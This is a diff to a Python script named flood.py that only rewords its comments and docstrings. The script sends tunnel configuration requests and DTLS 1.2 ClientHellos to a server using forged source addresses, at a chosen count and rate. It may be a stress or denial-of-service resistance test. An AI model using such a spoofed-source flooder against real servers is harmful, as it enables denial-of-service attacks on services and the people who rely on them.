@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Ask a server for tunnels in the name of others, as who cannot hear the answers does.
+"""Ask a server for tunnels with forged source addresses, so that the sender does not get the answers.
 
     flood.py PREFIX SERVER PORT COUNT RATE
 
@@ -15,14 +15,14 @@ import struct
 import sys
 import time
 
-# The source may be read-only, and is to stay as it is.
+# The source folder may be read-only, and must not change.
 sys.dont_write_bytecode = True
 
 import forge
 
 
 def configuration_request():
-    """Of a new client: an X25519 key of its own, and the 480 bytes that a client's request is padded to."""
+    """The request of a new client: with its own X25519 key, padded to 480 bytes as clients do."""
     share = b"\x01" + os.urandom(32)
     return forge.message(1, "f" * 16, ["15=" + os.urandom(16).hex(), "32=" + share.hex(), "17=" + bytes(403).hex()])
 
@@ -32,7 +32,7 @@ def extension(kind, value):
 
 
 def client_hello():
-    """Of a DTLS 1.2 client that has no cookie yet."""
+    """The first hello of a DTLS 1.2 client, without a cookie."""
     suites = struct.pack(">HHHHH", 8, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8)
     extensions = (extension(10, b"\x00\x04\x00\x1d\x00\x17") + extension(11, b"\x01\x00") + extension(23, b"")
                   + extension(13, b"\x00\x04\x04\x03\x08\x04"))
